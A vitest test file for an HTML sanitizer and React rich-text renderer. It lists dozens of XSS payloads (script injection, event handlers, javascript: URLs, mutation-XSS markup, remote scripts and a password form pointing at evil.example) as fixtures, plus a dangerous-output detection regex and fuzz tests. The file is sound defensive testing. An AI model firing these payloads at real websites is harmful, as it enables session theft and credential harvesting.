import fc from 'fast-check'
import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import { expect, test } from 'vitest'
import { richFromPlain, richPlainText, richSummary } from '../kernel/text/rich-text.ts'
import { RichText } from '../ui/basic/rich-text.tsx'
import { cleanRichText } from './rich-text.ts'

/** What attackers write: tags, handlers, schemes, broken markup, foreign namespaces, mutations. */
const hostile = [
  '<script>hit()</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>hit()</scr</script>ipt>',
  '<img src=x onerror=hit()>',
  '<img src="/media/a.webp" onerror="hit()">',
  '<img src="/media/../../v3/x" alt="a">',
  '<img src="https://evil.example/p.gif">',
  '<img src="//evil.example/p.gif">',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img src=`javascript:hit()`>',
  '<img """><script>hit()</script>">',
  '<a href="javascript:hit()">a</a>',
  '<a href="JaVaScRiPt:hit()">a</a>',
  '<a href=" &#14; javascript:hit()">a</a>',
  '<a href="java\tscript:hit()">a</a>',
  '<a href="java&#x0A;script:hit()">a</a>',
  '<a href="&#106;avascript:hit()">a</a>',
  '<a href="vbscript:hit()">a</a>',
  '<a href="data:text/html,<script>hit()</script>">a</a>',
  '<a href="//evil.example">a</a>',
  '<a href="/\\evil.example">a</a>',
  '<a href="\\\\evil.example">a</a>',
  '<a href="/ok" onclick="hit()" style="position:fixed;inset:0">a</a>',
  '<a href="/ok" target="_self" rel="opener">a</a>',
  '<svg onload=hit()>',
  '<svg><script>hit()</script></svg>',
  '<svg><a xlink:href="javascript:hit()"><text>a</text></a></svg>',
  '<svg><animate onbegin=hit() attributeName=x></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">',
  '<math><mi//xlink:href="data:x,<script>hit()</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>',
  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  '<style>@import "javascript:hit()"</style>',
  '<p style="background:url(javascript:hit())">a</p>',
  '<p style="behavior:url(x.htc)" class="skip" id="main">a</p>',
  '<iframe src="javascript:hit()"></iframe>',
  '<iframe srcdoc="<script>hit()</script>"></iframe>',
  '<object data="javascript:hit()"></object>',
  '<embed src="javascript:hit()">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:hit()">',
  '<link rel="stylesheet" href="javascript:hit()">',
  '<form action="https://evil.example"><input name="password"><button>ok</button></form>',
  '<input onfocus=hit() autofocus>',
  '<select onfocus=hit() autofocus>',
  '<textarea onfocus=hit() autofocus>',
  '<video><source onerror="hit()"></video>',
  '<audio src=x onerror=hit()>',
  '<details open ontoggle=hit()>a</details>',
  '<marquee onstart=hit()>a</marquee>',
  '<body onload=hit()>',
  '<div onmouseover="hit()">a</div>',
  '<template><script>hit()</script></template>',
  '<xmp><p title="</xmp><script>hit()</script>"></xmp>',
  '<!--[if gte IE 4]><script>hit()</script><![endif]-->',
  '<![CDATA[<script>hit()</script>]]>',
  '<?xml version="1.0"?><script>hit()</script>',
  '<p>&lt;script&gt;hit()&lt;/script&gt;</p>',
  '&lt;img src=x onerror=hit()&gt;',
  '<<script>hit();//<</script>',
  '<p/onclick=hit()>a',
  '<a href="https://ok.example/&quot; onmouseover=&quot;hit()">a</a>',
  '<td background="javascript:hit()">a</td>',
  '<p>a</p'.repeat(40),
  '<ul>'.repeat(4_000),
  '\u0000<scr\u0000ipt>hit()</scr\u0000ipt>',
]

// Attributes are read one after the other, so that a value which only looks like an attribute (`<a href="/ src=">`) does not count.
const danger =
  /<(?!\/?(?:div|p|h2|h3|h4|strong|em|u|s|code|pre|a|ul|ol|li|blockquote|hr|br|img|table|thead|tbody|tr|th|td)[\s/>])|<[a-z0-9]+(?:\s+[\w:-]+="[^"]*")*\s+(?:(?:on\w+|style|class="(?!rich)|id|srcset|srcdoc|action|data)\s*=|(?:href|src)="(?!https?:\/\/|mailto:|tel:|\/[^/\\])|(?![\w:-]+="|\/?>))/i
const drawn = (html: string) => renderToStaticMarkup(createElement(RichText, { html }))

test.each(hostile.map((html) => [html.slice(0, 60), html]))('stored and shown, this is harmless: %s', (_name, html) => {
  const stored = cleanRichText(html)
  expect(danger.exec(stored)?.[0]).toBeUndefined()
  expect(cleanRichText(stored)).toBe(stored)
  // What was stored before the rules, or beside them, is harmless when it is shown.
  for (const shown of [drawn(stored), drawn(html)]) expect(danger.exec(shown)?.[0]).toBeUndefined()
})

test('any text at all is harmless', () => {
  const piece = fc.oneof(
    fc.constantFrom(...hostile),
    fc.constantFrom('<', '>', '"', "'", '&', '/', '<p', '<a href="', 'on', '='),
    fc.string(),
  )
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
      const stored = cleanRichText(pieces.join(''))
      for (const shown of [stored, drawn(stored), drawn(pieces.join(''))]) expect(danger.exec(shown)?.[0]).toBeUndefined()
    }),
    { numRuns: 300 },
  )
})

test('what an editor writes stays as it is', () => {
  const written =
    '<h2>锌层</h2><p>按 <strong>GB/T 13912</strong> &amp; <em>ISO 1461</em><br />见<a href="/zinc">行情</a>或<a href="https://example.com/a?b=1&amp;c=2">原文</a></p>' +
    '<ul><li><p>一</p></li></ul><img src="/media/ingot-1.webp" alt="锌锭" width="640" height="480" /><table><tbody><tr><td colspan="2">a</td></tr></tbody></table>'
  expect(cleanRichText(written)).toBe(written)
  expect(drawn(written)).toContain(
    '<a href="https://example.com/a?b=1&amp;c=2" rel="nofollow noopener noreferrer" target="_blank">原文</a>',
  )
  expect(drawn(written)).toContain('<td colSpan="2">a</td>')
})

test('headings and marks of pasted pages become ours', () => {
  expect(cleanRichText('<h1>a</h1><b>b</b><i>c</i>')).toBe('<h2>a</h2><strong>b</strong><em>c</em>')
})

test('plain text goes in and comes out', () => {
  expect(richFromPlain('一 < 二\n\n三 & "四"')).toBe('<p>一 &lt; 二</p><p>三 &amp; "四"</p>')
  expect(richSummary(`<p>${'锌'.repeat(91)}</p>`, 'zh')).toBe(`${'锌'.repeat(90)}…`)
  const english = richSummary(`<p>${'Zinc ingots '.repeat(30)}</p>`, 'en')
  expect(english).toMatch(/^(Zinc ingots )+Zinc( ingots)?…$/)
  expect(english.length).toBeLessThanOrEqual(221)
  expect(richSummary('<p>Short.</p>', 'en')).toBe('Short.')
  expect(richPlainText(richFromPlain('一 < 二\n\n三 & "四"'))).toBe('一 < 二 三 & "四"')
})
